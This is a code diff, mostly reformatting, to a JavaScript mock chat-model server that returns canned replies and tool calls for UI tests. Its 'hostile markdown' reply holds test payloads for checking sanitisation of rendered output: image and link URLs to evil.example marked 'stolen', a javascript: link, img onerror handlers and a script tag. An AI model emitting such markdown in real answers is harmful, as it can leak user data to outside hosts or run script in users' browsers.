@@ -11,13 +11,24 @@ const CALLS = [
   [/what time is it/i, /get_current_time$/, () => ({ timezone: 'Europe/Berlin' })],
   [/calculate (.+)/i, /calculate$/, (m) => ({ expression: m[1] })],
   [/open the (\w+) page/i, /open_page$/, (m) => ({ page: m[1].toLowerCase() })],
-  [/chart/i, /show_chart$/, () => ({ title: 'Apples', kind: 'bar', points: [{ label: 'Mon', value: 3 }, { label: 'Tue', value: 5 }, { label: 'Wed', value: 2 }] })],
+  [
+    /chart/i,
+    /show_chart$/,
+    () => ({
+      title: 'Apples',
+      kind: 'bar',
+      points: [
+        { label: 'Mon', value: 3 },
+        { label: 'Tue', value: 5 },
+        { label: 'Wed', value: 2 },
+      ],
+    }),
+  ],
   [/celebrate/i, /celebrate$/, () => ({})],
   [/call (\w+)(?: with (\{.*\}))?/i, (m) => new RegExp(`${m[1]}$`), (m) => JSON.parse(m[2] ?? '{}')],
 ];
 
-const textOf = (content) =>
-  typeof content === 'string' ? content : (content ?? []).map((part) => part.text ?? '').join('');
+const textOf = (content) => (typeof content === 'string' ? content : (content ?? []).map((part) => part.text ?? '').join(''));
 
 /** The next message of the model: words, or one call. */
 function answer({ messages, tools = [], tool_choice }) {
@@ -34,10 +45,12 @@ function answer({ messages, tools = [], tool_choice }) {
   }
   if (/slowly/i.test(asked)) return { words: Array.from({ length: 40 }, (_, n) => `word${n}`).join(' '), halts: true };
   if (/hostile markdown/i.test(asked)) {
-    const words = '## A title\n\n- **bold** words\n- [read more](https://evil.example/x?stolen)\n- [run me](javascript:alert(1))\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n![spy](https://evil.example/spy.png?stolen)\n\n<img src=https://evil.example/raw.png onerror=alert(1)><script>alert(2)</script>\n\nhttps://evil.example/plain';
+    const words =
+      '## A title\n\n- **bold** words\n- [read more](https://evil.example/x?stolen)\n- [run me](javascript:alert(1))\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n![spy](https://evil.example/spy.png?stolen)\n\n<img src=https://evil.example/raw.png onerror=alert(1)><script>alert(2)</script>\n\nhttps://evil.example/plain';
     return { words };
   }
-  if (/markdown/i.test(asked)) return { words: '## A title\n\n- **bold** words\n- `code`\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n<img src=x onerror=alert(1)>' };
+  if (/markdown/i.test(asked))
+    return { words: '## A title\n\n- **bold** words\n- `code`\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n<img src=x onerror=alert(1)>' };
   return { words: `You said: ${asked}` };
 }
 
@@ -76,7 +89,9 @@ export async function startModel({ paced = false } = {}) {
     if (!question.stream) {
       const message = said.name ? { role: 'assistant', content: null, tool_calls: [call] } : { role: 'assistant', content: said.words };
       response.setHeader('content-type', 'application/json');
-      return response.end(JSON.stringify({ ...base, object: 'chat.completion', choices: [{ index: 0, message, finish_reason: finish }], usage }));
+      return response.end(
+        JSON.stringify({ ...base, object: 'chat.completion', choices: [{ index: 0, message, finish_reason: finish }], usage }),
+      );
     }
     response.setHeader('content-type', 'text/event-stream');
     const tell = (delta, finish_reason = null) =>
